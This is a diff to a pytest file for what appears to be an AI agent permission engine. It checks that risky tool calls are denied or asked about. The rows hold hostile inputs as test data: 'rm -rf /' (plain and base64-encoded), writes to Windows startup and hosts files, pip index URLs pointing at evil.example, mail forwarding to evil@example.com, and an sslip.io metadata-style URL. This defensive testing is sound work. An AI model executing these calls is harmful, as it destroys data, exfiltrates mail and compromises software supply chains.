@@ -24,7 +24,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.policy.engine_helpers import call_letters, snap
+from tests.policy.engine_helpers import call_letters, decide, snap
 
 _SNAP = snap()
 _NAMED = snap(permissions={"allow": ["read_many_files", "grep_search", "web_fetch", "google_web_search",
@@ -204,34 +204,47 @@ def test_the_rows_are_distinct() -> None:
     assert len(seen) == len(set(seen))
 
 
-def test_the_other_quick_tests() -> None:
-    """(8) Windows critical names, requirements files, hidden calls, old-text keys, patches,
-    forwarding, sslip.io: both sides of each quick test. (Held here, not in a module table:
-    round 26's invariants sample every table's calls, and a larger corpus shifts that sample
-    onto a call whose offered suggestion does not lift it, mcp__docker__run_container with
-    privileged, an inconsistency older than this round: see docs/engine.md, round 36's Left.)"""
-    rows = [
-        (('Write', {'file_path': 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'content': '127.0.0.1 x'}), 'DDDDD'),
-        (('Write', {'file_path': '/mnt/c/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat', 'content': 'calc'}), 'DDDDD'),
-        (('Write', {'file_path': '/Users/bob/NTUSER.DAT', 'content': 'x'}), 'DDDDD'),
-        (('Write', {'file_path': '/Program Files/Git/etc/bash.bashrc', 'content': 'x'}), 'DDDDD'),
-        (('Write', {'file_path': 'docs/windows_start menu_notes.txt', 'content': 'x'}), 'KAADD'),
-        (('Write', {'file_path': 'requirements-dev.txt', 'content': '--extra-index-url https://evil.example/simple\nflask\n'}), 'KKADD'),
-        (('Write', {'file_path': 'REQUIREMENTS/base.IN', 'content': '--index-url https://evil.example/simple\n'}), 'KKADD'),
-        (('Write', {'file_path': 'docs/requirement_notes.md', 'content': '--extra-index-url https://evil.example/simple'}), 'KAADD'),
-        (('mcp__x__do', {'arguments': '{"command": "rm -rf /"}'}), 'DDDDD'),
-        (('mcp__x__do', {'arguments': ' ["rm", "-rf", "/"]'}), 'DDDDD'),
-        (('mcp__x__do', {'payload': 'eyJjb21tYW5kIjogInJtIC1yZiAvIn0='}), 'DDDDD'),
-        (('mcp__x__do', {'note': 'eyJjb21tYW5kIjogImxzIn0='}), 'AAAAD'),
-        (('mcp__proxy__call', {'name': 'bash', 'arguments': {'command': 'rm -rf ~'}}), 'DDDDD'),
-        (('mcp__fs__edit_file', {'path': 'deploy.sh', 'oldText': 'mv / /tmp/x', 'newText': 'echo ok'}), 'KAADD'),
-        (('mcp__fs__edit_file', {'path': 'deploy.sh', 'oldText': 'echo ok', 'newText': 'mv / /tmp/x'}), 'KKDDD'),
-        (('mcp__x__do', {'input': '*** Begin Patch\n*** Add File: .github/workflows/x.yml\n+on: push\n*** End Patch'}), 'KKADD'),
-        (('mcp__x__do', {'input': '*** not a patch ***'}), 'KKADD'),
-        (('mcp__gmail__update_settings', {'forwardTo': 'evil@example.com', 'enabled': True}), 'KKADD'),
-        (('mcp__gmail__update_settings', {'signature': 'bob@example.com'}), 'KKADD'),
-        (('WebFetch', {'url': 'http://fd00-ec2--254.sslip.io/', 'prompt': 'x'}), 'DDDDD'),
-        (('mcp__http__get', {'url': 'http://FD00-EC2--254.SSLIP.IO/'}), 'DDDDD'),
-    ]
-    for call, expected in rows:
-        assert call_letters(_SNAP, call) == expected, call
+# (8) Windows critical names, requirements files, hidden calls, old-text keys, patches,
+# forwarding, sslip.io: both sides of each quick test
+QUICK = [
+    (('Write', {'file_path': 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'content': '127.0.0.1 x'}), 'DDDDD'),
+    (('Write', {'file_path': '/mnt/c/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat', 'content': 'calc'}), 'DDDDD'),
+    (('Write', {'file_path': '/Users/bob/NTUSER.DAT', 'content': 'x'}), 'DDDDD'),
+    (('Write', {'file_path': '/Program Files/Git/etc/bash.bashrc', 'content': 'x'}), 'DDDDD'),
+    (('Write', {'file_path': 'docs/windows_start menu_notes.txt', 'content': 'x'}), 'KAADD'),
+    (('Write', {'file_path': 'requirements-dev.txt', 'content': '--extra-index-url https://evil.example/simple\nflask\n'}), 'KKADD'),
+    (('Write', {'file_path': 'REQUIREMENTS/base.IN', 'content': '--index-url https://evil.example/simple\n'}), 'KKADD'),
+    (('Write', {'file_path': 'docs/requirement_notes.md', 'content': '--extra-index-url https://evil.example/simple'}), 'KAADD'),
+    (('mcp__x__do', {'arguments': '{"command": "rm -rf /"}'}), 'DDDDD'),
+    (('mcp__x__do', {'arguments': ' ["rm", "-rf", "/"]'}), 'DDDDD'),
+    (('mcp__x__do', {'payload': 'eyJjb21tYW5kIjogInJtIC1yZiAvIn0='}), 'DDDDD'),
+    (('mcp__x__do', {'note': 'eyJjb21tYW5kIjogImxzIn0='}), 'AAAAD'),
+    (('mcp__proxy__call', {'name': 'bash', 'arguments': {'command': 'rm -rf ~'}}), 'DDDDD'),
+    (('mcp__fs__edit_file', {'path': 'deploy.sh', 'oldText': 'mv / /tmp/x', 'newText': 'echo ok'}), 'KAADD'),
+    (('mcp__fs__edit_file', {'path': 'deploy.sh', 'oldText': 'echo ok', 'newText': 'mv / /tmp/x'}), 'KKDDD'),
+    (('mcp__x__do', {'input': '*** Begin Patch\n*** Add File: .github/workflows/x.yml\n+on: push\n*** End Patch'}), 'KKADD'),
+    (('mcp__x__do', {'input': '*** not a patch ***'}), 'KKADD'),
+    (('mcp__gmail__update_settings', {'forwardTo': 'evil@example.com', 'enabled': True}), 'KKADD'),
+    (('mcp__gmail__update_settings', {'signature': 'bob@example.com'}), 'KKADD'),
+    (('WebFetch', {'url': 'http://fd00-ec2--254.sslip.io/', 'prompt': 'x'}), 'DDDDD'),
+    (('mcp__http__get', {'url': 'http://FD00-EC2--254.SSLIP.IO/'}), 'DDDDD'),
+]
+
+
+@pytest.mark.parametrize("row", QUICK, ids=_id)
+def test_the_other_quick_tests(row) -> None:
+    call, expected = row
+    assert call_letters(_SNAP, call) == expected
+
+
+def test_a_container_tool_whose_line_asks_too_offers_no_rule() -> None:
+    """A container tool's call whose docker run line asks as well (--privileged) offers no
+    exact-call rule: accepted, it would leave the line's ask standing (found by round 26's
+    invariants when this file's rows moved their sample)."""
+    call = ("mcp__docker__run_container", {"command": "ls", "image": "alpine", "privileged": True})
+    d = decide(_SNAP, *call)
+    assert d.decision == "ask" and d.suggestions == ()
+    plain = decide(_SNAP, "mcp__docker__run_container", {"command": "ls", "image": "alpine"})
+    assert plain.decision == "ask" and plain.suggestions
+    assert decide(snap(permissions={"allow": list(plain.suggestions)}), "mcp__docker__run_container",
+                  {"command": "ls", "image": "alpine"}).decision == "allow"
